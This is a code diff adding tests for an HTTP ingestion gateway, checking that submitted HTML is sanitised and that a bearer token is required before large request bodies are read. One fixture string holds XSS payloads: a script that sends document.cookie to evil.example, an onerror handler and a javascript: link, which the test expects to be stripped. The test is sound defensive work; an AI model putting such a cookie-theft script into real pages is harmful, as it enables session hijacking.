@@ -1,3 +1,5 @@
+import type { AddressInfo } from 'node:net';
+import { rawHttpExchange } from '@hub/testing';
 import { suite } from 'uvu';
 import * as assert from 'uvu/assert';
 import { assertRefused, bearer, buildTestGateway, problemOf } from '../testing/test-gateway.ts';
@@ -49,6 +51,23 @@ accepts('a batch of 1,000 in one request', async () => {
   assert.is(response.statusCode, 202);
   assert.is(response.json().accepted, 1000);
   assert.is(new Set(intake.accepted[0]?.interactions.map((i) => i.id)).size, 1000);
+});
+
+accepts('html is sanitised as mail is: formatting and right-to-left kept, scripts and handlers gone', async () => {
+  const html =
+    '<p dir="rtl">سلام <b>سارا</b></p><script>fetch("https://evil.example/"+document.cookie)</script>' +
+    '<img src="https://evil.example/x.png" onerror="alert(1)"><a href="javascript:alert(2)">click</a>';
+  const { response, intake } = await post({
+    interactions: [
+      { ...sample(1), html },
+      { ...sample(2), html: null },
+    ],
+  });
+  assert.is(response.statusCode, 202);
+  const [first, second] = intake.accepted[0]?.interactions ?? [];
+  assert.match(String(first?.html), '<p dir="rtl">سلام <b>سارا</b></p>');
+  assert.not.match(String(first?.html), /script|onerror|javascript:|evil\.example\/\+document/);
+  assert.is(second?.html, null);
 });
 
 accepts.run();
@@ -121,3 +140,42 @@ refuses('the intake down (Kafka unreachable): 503, retriable, nothing recorded',
 });
 
 refuses.run();
+
+const early = suite('POST /v1/interactions checks the token before it reads the body');
+
+early('a 10 MB body announced without a token: 401 problem+json after 1 KB, the rest never needed', async () => {
+  const { app, intake } = await buildTestGateway();
+  await app.listen({ port: 0, host: '127.0.0.1' });
+  try {
+    const exchange = await rawHttpExchange({
+      port: (app.server.address() as AddressInfo).port,
+      pieces: [
+        'POST /v1/interactions HTTP/1.1\r\nHost: hub\r\nContent-Type: application/json\r\n' +
+          `Content-Length: ${10 * 1024 * 1024}\r\n\r\n`,
+        `{"text":"${'x'.repeat(1024)}`,
+      ],
+      intervalMs: 50,
+      timeoutMs: 3000,
+    });
+    assert.match(
+      exchange.response,
+      /^HTTP\/1\.1 401 /,
+      `answered: ${exchange.response.slice(0, 100) || 'nothing in 3 s'}`,
+    );
+    assert.match(exchange.response, /application\/problem\+json/);
+    assert.match(exchange.response, /bearer token/);
+    assert.is(intake.accepted.length, 0);
+  } finally {
+    await app.close();
+  }
+});
+
+early('a body over the 50 MB limit without a token: 401, not 413', async () => {
+  const { response, intake } = await post(
+    { ...sample(1), text: 'x'.repeat(51 * 1024 * 1024) },
+    { 'content-type': 'application/json' },
+  );
+  assertRefused('51 MiB, no token', response, intake, 401, /bearer token/);
+});
+
+early.run();
